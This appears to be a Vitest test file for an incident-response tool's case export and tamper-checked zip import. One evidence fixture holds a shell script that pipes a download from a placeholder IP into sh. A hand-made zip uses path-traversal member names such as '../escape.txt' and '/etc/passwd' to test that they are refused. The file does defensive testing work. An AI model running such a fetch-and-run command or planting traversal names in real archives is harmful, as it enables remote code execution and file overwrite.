// Case export and verified import (src/main/cases/case-export.ts, case-import.ts, zip-check.ts): a real zip
// written and read back into a fresh store, then damaged in various ways — each problem must name the member
// it belongs to, and a refused import must add nothing.
import { createHash, randomBytes } from 'node:crypto';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { crc32 } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { EvidenceProvenance } from '../../../src/main/cases/recorder.js';
import { CasesService } from '../../../src/main/services/cases.js';
import { createEventHub } from '../../../src/main/services/events.js';
import type { EvidenceView, ExportCaseResult } from '../../../src/shared/workstation/case-types.js';
import type { LrEvent } from '../../../src/shared/workstation/ipc-contract.js';
import { membersOf, zipOf } from '../../zip-members.js';

let root: string;
let source: CasesService;
let caseId: string;
let exported: ExportCaseResult;
let zipBytes: Buffer;
const bigEvidence = randomBytes(2 * 1024 * 1024 + 123);
const smallEvidence = Buffer.from('#!/bin/sh\ncurl http://203.0.113.9/x | sh\n');
const evidence: EvidenceView[] = [];
let stores = 0;

function provenance(over: Partial<EvidenceProvenance> = {}): EvidenceProvenance {
  return {
    kind: 'getfile',
    name: 'x.bin',
    deviceId: 'dev-1',
    deviceName: 'web01',
    originalPath: '/tmp/x.bin',
    commandId: 'cmd-get',
    analyst: 'alice',
    fileTimes: { mtime: '2025-05-06T07:08:09.000Z' },
    ...over,
  };
}

/** A fresh, empty store in its own app data folder. */
function freshStore(events?: LrEvent[]): { service: CasesService; dir: string } {
  const dir = path.join(root, `store-${stores++}`);
  const hub = createEventHub();
  if (events) hub.subscribe((e) => events.push(e));
  return { service: new CasesService({ dir: path.join(dir, 'cases'), events: hub }), dir };
}

function writeZip(name: string, bytes: Buffer): string {
  const file = path.join(root, name);
  writeFileSync(file, bytes);
  return file;
}

function flipped(at: number, bytes = zipBytes): Buffer {
  const copy = Buffer.from(bytes);
  copy[at] = (copy[at] as number) ^ 0x01;
  return copy;
}

/** Where a member's data starts, from its local header (found by its name's first occurrence). */
function memberDataOffset(bytes: Buffer, name: string): number {
  const at = bytes.indexOf(Buffer.from(name));
  const header = at - 30;
  expect(bytes.readUInt32LE(header)).toBe(0x04034b50);
  return at + bytes.readUInt16LE(header + 26) + bytes.readUInt16LE(header + 28);
}

/** Asserts that a refused import added nothing: no case, no blob, nothing left in scratch. */
function expectNothingAdded(service: CasesService, dir: string): void {
  expect(service.list()).toEqual([]);
  const blobs = path.join(dir, 'cases', 'evidence');
  expect(existsSync(blobs) ? readdirSync(blobs) : []).toEqual([]);
  expect(readdirSync(path.join(dir, 'cases', 'tmp'))).toEqual([]);
}

/** A minimal zip of STORED members, for names and layouts yazl would refuse to write. */
function handMadeZip(members: { name: string; data: Buffer }[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const m of members) {
    const name = Buffer.from(m.name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x800, 6);
    local.writeUInt32LE(crc32(m.data), 14);
    local.writeUInt32LE(m.data.length, 18);
    local.writeUInt32LE(m.data.length, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x800, 8);
    central.writeUInt32LE(crc32(m.data), 16);
    central.writeUInt32LE(m.data.length, 20);
    central.writeUInt32LE(m.data.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, m.data);
    centrals.push(central, name);
    offset += 30 + name.length + m.data.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(members.length, 8);
  end.writeUInt16LE(members.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

/** The export's members with `change` applied to one member's bytes (its CRC-32 rewritten to match). */
async function rezipped(name: string, change: (data: Buffer) => Buffer): Promise<Buffer> {
  const members = await membersOf(zipBytes);
  const member = members.find((m) => m.name === name);
  expect(member, name).toBeDefined();
  member!.data = change(member!.data);
  return zipOf(members);
}

/** The export's manifest changed by `edit`, rewritten with a valid CRC-32. */
function withManifest(
  edit: (
    manifest: Record<string, unknown[]> & {
      files: { path: string; role: string; sha256: string; size: number }[];
      evidence: { id: string; path: string; sha256: string; sha1: string; md5: string }[];
      notes: { id: string; path: string }[];
    },
  ) => void,
): Promise<Buffer> {
  return rezipped('manifest.json', (data) => {
    const manifest = JSON.parse(data.toString('utf8'));
    edit(manifest);
    return Buffer.from(JSON.stringify(manifest));
  });
}

/** One byte of `data` changed, the size kept. */
function oneByteChanged(data: Buffer, at = Math.floor(data.length / 2)): Buffer {
  const copy = Buffer.from(data);
  copy[at] = (copy[at] as number) ^ 0x20;
  return copy;
}

beforeAll(async () => {
  root = mkdtempSync(path.join(tmpdir(), 'lr-cases-zip-'));
  mkdirSync(path.join(root, 'downloads'));
  source = freshStore().service;
  const kase = source.create('Phishing → web01 / "Q3"');
  caseId = kase.id;
  const put = (name: string, data: Buffer) => {
    const file = path.join(root, 'downloads', name);
    writeFileSync(file, data);
    return file;
  };
  evidence.push(
    await source.addEvidence(
      put('big.bin', bigEvidence),
      provenance({ name: 'big.bin', originalPath: '/var/tmp/big.bin' }),
    ),
  );
  evidence.push(
    await source.addEvidence(
      put('stage2.sh', smallEvidence),
      provenance({ name: 'stage2.sh', originalPath: '/tmp/stage2.sh', commandId: 'cmd-get2' }),
    ),
  );
  // The same bytes again (another path): one member, two index entries.
  evidence.push(
    await source.addEvidence(
      put('copy.sh', smallEvidence),
      provenance({ name: 'copy.sh', originalPath: '/home/bob/copy.sh', kind: 'output' }),
    ),
  );
  const at = (s: number) => new Date(Date.UTC(2025, 4, 6, 8, 0, s)).toISOString();
  for (let i = 0; i < 30; i++) {
    source.addTranscript({
      sessionId: i < 20 ? 'sess/one' : 'sess-two',
      deviceId: 'dev-1',
      deviceName: 'web01',
      commandId: `cmd-${i}`,
      line: `dir /etc/cron.d # ${i}`,
      output: `entry ${i}: backdoor-cron ${'x'.repeat(i * 100)}\n`,
      status: 'completed',
      analyst: 'alice',
      startedAt: at(i),
      endedAt: at(i + 1),
    });
  }
  source.createNote({
    caseId,
    title: 'Initial access',
    body: '# Timeline\n\n---\n\n- stage2.sh pulled from /tmp\n- see `cmd-3`\n',
    commandId: 'cmd-3',
    evidenceId: evidence[1]!.id,
  });
  source.createNote({ caseId, title: '', body: '' });
  exported = await source.export(caseId);
  zipBytes = readFileSync(exported.path);
}, 60_000);

afterAll(() => {
  source.close();
  rmSync(root, { recursive: true, force: true });
});

describe('export', () => {
  it('writes case-<slug>-<stamp>.zip in the exports folder with the manifest, notes, transcripts and evidence', () => {
    expect(path.dirname(exported.path)).toBe(path.join(root, 'store-0', 'exports'));
    expect(path.basename(exported.path)).toMatch(/^case-phishing-web01-q3-\d{8}T\d{6}\.zip$/);
    expect(exported.bytes).toBe(statSync(exported.path).size);
    // 2 sessions × (jsonl + txt) + 2 notes + 2 distinct blobs + manifest
    expect(exported.files).toBe(9);
    expect(readdirSync(path.dirname(exported.path))).toEqual([path.basename(exported.path)]);
    // Evidence is STORED: its bytes appear as they are.
    expect(zipBytes.indexOf(bigEvidence.subarray(1000, 1100))).toBeGreaterThan(0);
  });

  it('exports and imports an empty case', async () => {
    const { service } = freshStore();
    const empty = service.create('Nothing yet');
    const out = await service.export(empty.id);
    expect(out.files).toBe(1);
    const { service: other } = freshStore();
    expect(await other.importFile(out.path)).toMatchObject({ ok: true, caseId: empty.id, verified: 1 });
    expect(other.list()).toMatchObject([{ title: 'Nothing yet', counts: { notes: 0, evidence: 0, transcripts: 0 } }]);
    service.close();
    other.close();
  });

  it('refuses to export a blob that no longer matches its hash, and marks it tampered', async () => {
    const { service, dir } = freshStore();
    const file = path.join(root, 'downloads', 'tamper.bin');
    writeFileSync(file, 'evidence to be tampered with');
    const item = await service.addEvidence(file, provenance({ name: 'tamper.bin' }));
    const blob = path.join(dir, 'cases', 'evidence', item.sha256.slice(0, 2), item.sha256);
    rmSync(blob);
    writeFileSync(blob, 'EVIDENCE to be tampered with');
    await expect(service.export(item.caseId)).rejects.toThrow(
      /^the export of case \S+ was not written: evidence tamper.bin \(\S+\) no longer matches its SHA-256/,
    );
    expect(service.evidenceItem(item.id).integrity).toBe('tampered');
    expect(readdirSync(path.join(dir, 'exports'))).toEqual([]);
    rmSync(blob);
    await expect(service.export(item.caseId)).rejects.toThrow(/is missing from the store/);
    service.close();
  });
});

describe('import', () => {
  it('imports the export into a fresh store: every hash verifies, notes and transcripts are there', async () => {
    const events: LrEvent[] = [];
    const { service } = freshStore(events);
    const result = await service.importFile(exported.path);
    expect(result).toMatchObject({ ok: true, caseId, title: 'Phishing → web01 / "Q3"', problems: [] });
    expect(result.verified).toBe(9);
    const [kase] = service.list();
    expect(kase).toMatchObject({
      id: caseId,
      active: false,
      status: 'open',
      counts: { notes: 2, evidence: 3, transcripts: 30 },
    });
    const items = service.evidence(caseId);
    expect(
      items.map((e) => [
        e.sha256,
        e.sha1,
        e.md5,
        e.size,
        e.name,
        e.originalPath,
        e.kind,
        e.commandId,
        e.fileTimes.mtime,
      ]),
    ).toEqual(
      evidence.map((e) => [
        e.sha256,
        e.sha1,
        e.md5,
        e.size,
        e.name,
        e.originalPath,
        e.kind,
        e.commandId,
        e.fileTimes.mtime,
      ]),
    );
    for (const item of items) expect((await service.verify(item.id)).integrity).toBe('ok');
    expect(createHash('sha256').update(bigEvidence).digest('hex')).toBe(items[0]!.sha256);
    const notes = service.notes(caseId);
    expect(notes.map((n) => [n.title, n.body, n.commandId, n.evidenceId])).toEqual(
      source.notes(caseId).map((n) => [n.title, n.body, n.commandId, n.evidenceId]),
    );
    const transcripts = service.transcripts(caseId, 0, 100);
    expect(transcripts.total).toBe(30);
    expect(service.transcriptByCommand('cmd-29')).toEqual(source.transcriptByCommand('cmd-29'));
    expect(service.search('backdoor').hits.length).toBeGreaterThan(0);
    expect(events.some((e) => e.type === 'cases.progress' && e.progress.task === 'import')).toBe(true);
    expect(events).toContainEqual({ type: 'cases.changed', caseId });
    service.close();
  });

  it('gives new ids to a case imported twice into the same store', async () => {
    const result = await source.importFile(exported.path);
    expect(result.ok).toBe(true);
    expect(result.caseId).not.toBe(caseId);
    const copy = source.list().find((c) => c.id === result.caseId)!;
    expect(copy).toMatchObject({
      title: 'Phishing → web01 / "Q3"',
      counts: { notes: 2, evidence: 3, transcripts: 30 },
    });
    const linked = source.notes(copy.id).find((n) => n.evidenceId);
    expect(source.evidenceItem(linked!.evidenceId!).caseId).toBe(copy.id);
  });

  it('reports one byte changed inside an evidence member against that member, and adds nothing', async () => {
    const sha = evidence[0]!.sha256;
    const at = zipBytes.indexOf(bigEvidence.subarray(500_000, 500_064)) + 17;
    const { service, dir } = freshStore();
    const result = await service.importFile(writeZip('evidence-flip.zip', flipped(at)));
    expect(result.ok).toBe(false);
    expect(result.problems).toContainEqual({
      file: `evidence/${sha}`,
      problem: 'CRC-32 mismatch: its data was changed or damaged',
    });
    expect(result.problems.every((p) => p.file === `evidence/${sha}`)).toBe(true);
    expectNothingAdded(service, dir);
    service.close();
  });

  it('reports a changed byte in a (deflated) note member against that note', async () => {
    const note = source.notes(caseId).find((n) => n.title === 'Initial access')!;
    const name = `notes/${note.id}.md`;
    const { service, dir } = freshStore();
    const result = await service.importFile(writeZip('note-flip.zip', flipped(memberDataOffset(zipBytes, name) + 3)));
    expect(result.ok).toBe(false);
    expect(result.problems.length).toBeGreaterThan(0);
    expect(result.problems.every((p) => p.file === name)).toBe(true);
    expectNothingAdded(service, dir);
    service.close();
  });

  it('reports a changed manifest against manifest.json', async () => {
    const { service, dir } = freshStore();
    const result = await service.importFile(
      writeZip('manifest-flip.zip', flipped(memberDataOffset(zipBytes, 'manifest.json') + 10)),
    );
    expect(result.ok).toBe(false);
    expect(result.problems.map((p) => p.file)).toContain('manifest.json');
    expectNothingAdded(service, dir);
    service.close();
  });

  it('reports a truncated zip in one line', async () => {
    const { service, dir } = freshStore();
    const result = await service.importFile(writeZip('cut.zip', zipBytes.subarray(0, zipBytes.length - 40)));
    expect(result.ok).toBe(false);
    expect(result.problems).toHaveLength(1);
    expect(result.problems[0]!.file).toBe('cut.zip');
    expect(result.problems[0]!.problem).toMatch(/^not a readable zip \(truncated or damaged\): [^\n]+$/);
    expectNothingAdded(service, dir);
    const notZip = await service.importFile(writeZip('text.zip', Buffer.from('hello')));
    expect(notZip.problems).toHaveLength(1);
    service.close();
  });

  it('leaves no byte of the zip unchecked where it matters: any flipped byte is refused or changes nothing imported', async () => {
    // A small case, so that every byte can be flipped in turn.
    const { service: small } = freshStore();
    const k = small.create('tiny');
    const file = path.join(root, 'downloads', 'tiny.bin');
    writeFileSync(file, 'tiny evidence');
    await small.addEvidence(file, provenance({ name: 'tiny.bin' }));
    small.addTranscript({
      sessionId: 's',
      deviceId: 'd',
      deviceName: 'n',
      commandId: 'c',
      line: 'l',
      output: 'o\n',
      status: 'completed',
      analyst: 'a',
      startedAt: 't0',
      endedAt: 't1',
    });
    small.createNote({ caseId: k.id, title: 'n', body: 'b' });
    const zip = readFileSync((await small.export(k.id)).path);
    small.close();
    const { service, dir } = freshStore();
    const snapshot = (s: CasesService, id: string) =>
      JSON.stringify([
        s.evidence(id).map((e) => [e.sha256, e.name, e.originalPath]),
        s.notes(id).map((n) => [n.title, n.body]),
        s.transcripts(id, 0, 10).items.map((t) => [t.line, t.status]),
        s.transcript(s.transcripts(id, 0, 1).items[0]!.id).output,
      ]);
    const reference = await service.importFile(writeZip('tiny.zip', zip));
    const expected = snapshot(service, reference.caseId!);
    let refused = 0;
    let harmless = 0;
    for (let at = 0; at < zip.length; at += 3) {
      const result = await service.importFile(writeZip('tiny-flip.zip', flipped(at, zip)));
      if (!result.ok) {
        refused++;
        expect(result.problems.length).toBeGreaterThan(0);
        for (const p of result.problems) expect(p.problem).not.toMatch(/\n/);
        continue;
      }
      harmless++;
      expect(snapshot(service, result.caseId!), `byte ${at} changed what was imported`).toBe(expected);
    }
    expect(refused).toBeGreaterThan(harmless * 4);
    expect(readdirSync(path.join(dir, 'cases', 'tmp'))).toEqual([]);
    service.close();
  }, 120_000);

  it('reports unsafe names, members the manifest does not list, and members it lists that are missing', async () => {
    const manifest = {
      format: 'lr-case-export',
      version: 1,
      exportedAt: '2025-01-01T00:00:00.000Z',
      generator: 'test',
      case: {
        id: 'hand1',
        title: 'Hand made',
        status: 'open',
        createdAt: '2025-01-01T00:00:00.000Z',
        updatedAt: '2025-01-01T00:00:00.000Z',
      },
      files: [
        {
          path: 'notes/n1.md',
          role: 'note',
          sha256: createHash('sha256').update('---\n---\n\nbody').digest('hex'),
          size: 13,
        },
        { path: 'notes/gone.md', role: 'note', sha256: 'a'.repeat(64), size: 1 },
      ],
      notes: [
        {
          id: 'n1',
          path: 'notes/n1.md',
          title: 't',
          createdAt: '2025-01-01T00:00:00.000Z',
          updatedAt: '2025-01-01T00:00:00.000Z',
        },
        {
          id: 'n2',
          path: 'notes/gone.md',
          title: 't',
          createdAt: '2025-01-01T00:00:00.000Z',
          updatedAt: '2025-01-01T00:00:00.000Z',
        },
      ],
      sessions: [],
      evidence: [],
    };
    const zip = handMadeZip([
      { name: 'notes/n1.md', data: Buffer.from('---\n---\n\nbody') },
      { name: '../escape.txt', data: Buffer.from('x') },
      { name: '/etc/passwd', data: Buffer.from('x') },
      { name: 'evil\\path.txt', data: Buffer.from('x') },
      { name: 'extra.txt', data: Buffer.from('x') },
      { name: 'manifest.json', data: Buffer.from(JSON.stringify(manifest)) },
    ]);
    const { service, dir } = freshStore();
    const result = await service.importFile(writeZip('hand.zip', zip));
    expect(result.ok).toBe(false);
    const about = (file: string) => result.problems.filter((p) => p.file === file).map((p) => p.problem);
    expect(about('../escape.txt')).toEqual(['unsafe member: a path going up (..)', 'is not listed in the manifest']);
    expect(about('/etc/passwd')).toContain('unsafe member: an absolute path');
    expect(about('evil\\path.txt')).toContain('unsafe member: a name with a backslash');
    expect(about('extra.txt')).toEqual(['is not listed in the manifest']);
    expect(about('notes/gone.md')).toEqual(['is listed in the manifest but missing from the zip']);
    expect(about('notes/n1.md')).toEqual([]);
    expectNothingAdded(service, dir);

    // The same hand-made layout without the bad members imports.
    const good = handMadeZip([
      { name: 'notes/n1.md', data: Buffer.from('---\n---\n\nbody') },
      {
        name: 'manifest.json',
        data: Buffer.from(JSON.stringify({ ...manifest, files: [manifest.files[0]], notes: [manifest.notes[0]] })),
      },
    ]);
    const ok = await service.importFile(writeZip('good.zip', good));
    expect(ok).toMatchObject({ ok: true, caseId: 'hand1', verified: 2 });
    expect(service.notes('hand1')[0]!.body).toBe('body');
    service.close();
  });

  it('reports a zip with no manifest, and bytes hidden between members', async () => {
    const { service } = freshStore();
    const noManifest = await service.importFile(
      writeZip('bare.zip', handMadeZip([{ name: 'a.txt', data: Buffer.from('a') }])),
    );
    expect(noManifest.problems).toContainEqual({
      file: 'manifest.json',
      problem: 'missing: this zip is not a case export',
    });
    // Insert bytes between the first member and the next, fixing up the offsets that follow.
    const zip = handMadeZip([
      { name: 'a.txt', data: Buffer.from('a') },
      { name: 'b.txt', data: Buffer.from('b') },
    ]);
    const firstEnd = 30 + 5 + 1;
    const hidden = Buffer.from('HIDDEN');
    const spliced = Buffer.concat([zip.subarray(0, firstEnd), hidden, zip.subarray(firstEnd)]);
    const cdStart = spliced.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
    const secondCentral = spliced.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]), cdStart + 4);
    spliced.writeUInt32LE(firstEnd + hidden.length, secondCentral + 42);
    const eocd = spliced.length - 22;
    spliced.writeUInt32LE(spliced.readUInt32LE(eocd + 16) + hidden.length, eocd + 16);
    const result = await service.importFile(writeZip('hidden.zip', spliced));
    expect(result.problems).toContainEqual({ file: 'b.txt', problem: '6 bytes before it belong to no member' });
    service.close();
  });

  it('takes a zip uploaded in chunks (offsets checked, size enforced), and aborts cleanly', async () => {
    const events: LrEvent[] = [];
    const { service, dir } = freshStore(events);
    const chunk = 512 * 1024;
    const id = service.importBegin('upload.zip', zipBytes.length);
    expect(() => service.importChunk(id, 5, zipBytes.subarray(0, 10).toString('base64'))).toThrow(
      /expected byte 0, got 5/,
    );
    for (let at = 0; at < zipBytes.length; at += chunk) {
      expect(service.importChunk(id, at, zipBytes.subarray(at, at + chunk).toString('base64'))).toBe(
        Math.min(zipBytes.length, at + chunk),
      );
    }
    expect(() => service.importChunk(id, zipBytes.length, Buffer.from('x').toString('base64'))).toThrow(
      /more bytes than announced/,
    );
    const result = await service.importEnd(id);
    expect(result).toMatchObject({ ok: true, caseId });
    expect(events.some((e) => e.type === 'cases.progress' && e.progress.id === id)).toBe(true);
    expect(readdirSync(path.join(dir, 'cases', 'uploads'))).toEqual([]);
    await expect(service.importEnd(id)).rejects.toThrow(`no case import ${id} in progress`);

    const short = service.importBegin('short.zip', 100);
    service.importChunk(short, 0, Buffer.alloc(10).toString('base64'));
    await expect(service.importEnd(short)).rejects.toThrow(/received 10 of 100 bytes/);
    const aborted = service.importBegin('abort.zip', 100);
    expect(service.importAbort(aborted)).toBe(true);
    expect(service.importAbort(aborted)).toBe(false);
    expect(readdirSync(path.join(dir, 'cases', 'uploads'))).toEqual([]);
    const bad = service.importBegin('bad.zip', 5);
    service.importChunk(bad, 0, Buffer.from('hello').toString('base64'));
    const refused = await service.importEnd(bad);
    expect(refused).toMatchObject({ ok: false, problems: [{ file: 'bad.zip' }] });
    service.close();
  });
});

// Every tamper above flips a byte, which the zip's own CRC-32 catches before any hash is compared. Here the
// zip is rewritten so that its CRC-32s are right for the changed bytes: only the manifest's hashes, its own
// consistency checks and the duplicate checks stand between the change and the store.
describe('import: changes the CRC-32 cannot see', () => {
  const problemsOf = async (name: string, zip: Buffer) => {
    const { service, dir } = freshStore();
    const result = await service.importFile(writeZip(name, zip));
    expect(result.ok).toBe(false);
    expectNothingAdded(service, dir);
    service.close();
    return result.problems;
  };

  it('refuses evidence with a valid CRC-32 but another SHA-256 than the manifest, naming the member', async () => {
    const member = `evidence/${evidence[1]!.sha256}`;
    const problems = await problemsOf('evidence-sha256.zip', await rezipped(member, oneByteChanged));
    expect(problems).toHaveLength(1);
    expect(problems[0]).toMatchObject({
      file: member,
      problem: expect.stringMatching(
        /^SHA-256 mismatch: the member was changed \([0-9a-f]{64}, the manifest says [0-9a-f]{64}\)$/,
      ),
    });
  });

  it('refuses a note and a transcript with a valid CRC-32 but another SHA-256 than the manifest, naming each', async () => {
    const note = `notes/${source.notes(caseId).find((n) => n.title === 'Initial access')!.id}.md`;
    const transcript = (await membersOf(zipBytes)).find((m) => m.name.endsWith('.jsonl'))!.name;
    for (const member of [note, transcript]) {
      const problems = await problemsOf(
        'text-sha256.zip',
        await rezipped(member, (data) =>
          Buffer.from(
            data.toString('latin1').replace(/stage2|backdoor/, (w) => w.toUpperCase()),
            'latin1',
          ),
        ),
      );
      expect(problems, member).toEqual([
        { file: member, problem: expect.stringMatching(/^SHA-256 mismatch: the member was changed/) },
      ]);
    }
  });

  it('refuses evidence whose SHA-256 matches but whose SHA-1 or MD5 differ from the manifest', async () => {
    const member = `evidence/${evidence[0]!.sha256}`;
    for (const field of ['sha1', 'md5'] as const) {
      const zip = await withManifest((m) => {
        const item = m.evidence.find((e) => e.path === member)!;
        item[field] = item[field].replace(/^./, (c) => (c === '0' ? '1' : '0'));
      });
      expect(await problemsOf(`evidence-${field}.zip`, zip), field).toEqual([
        { file: member, problem: 'SHA-1 or MD5 differ from the manifest' },
      ]);
    }
  });

  it('refuses a manifest whose evidence, notes or roles disagree with its own file list', async () => {
    const member = `evidence/${evidence[0]!.sha256}`;
    const otherHash = await withManifest((m) => {
      m.evidence.find((e) => e.path === member)!.sha256 = 'f'.repeat(64);
    });
    expect(await problemsOf('evidence-vs-files.zip', otherHash)).toEqual([
      {
        file: 'manifest.json',
        problem: `evidence ${evidence[0]!.id} does not match the file list's entry for ${member}`,
      },
    ]);

    const note = `notes/${source.notes(caseId).find((n) => n.title === 'Initial access')!.id}.md`;
    const unlisted = await withManifest((m) => {
      m.notes.find((n) => n.path === note)!.path = 'notes/elsewhere.md';
    });
    expect(await problemsOf('note-vs-files.zip', unlisted)).toEqual([
      { file: 'manifest.json', problem: 'refers to notes/elsewhere.md, which its file list lacks' },
      { file: note, problem: 'is listed in the manifest but belongs to no note, session or evidence' },
    ]);

    const otherRole = await withManifest((m) => {
      m.files.find((f) => f.path === note)!.role = 'transcript-text';
    });
    expect(await problemsOf('role-vs-files.zip', otherRole)).toEqual([
      { file: 'manifest.json', problem: `lists ${note} as transcript-text, but uses it as note` },
    ]);
  });

  it('refuses a zip holding a member twice, even with the same bytes both times', async () => {
    const members = await membersOf(zipBytes);
    const note = members.find((m) => m.name.startsWith('notes/'))!;
    const problems = await problemsOf('twice-in-zip.zip', await zipOf([...members, { ...note }]));
    expect(problems).toEqual([{ file: note.name, problem: 'appears twice in the zip' }]);
  });

  it('refuses a manifest listing a member twice', async () => {
    let listed = '';
    const zip = await withManifest((m) => {
      const first = m.files.find((f) => f.role === 'note')!;
      listed = first.path;
      m.files.push({ ...first });
    });
    expect(await problemsOf('twice-in-manifest.zip', zip)).toEqual([
      { file: 'manifest.json', problem: `lists ${listed} twice` },
    ]);
  });
});
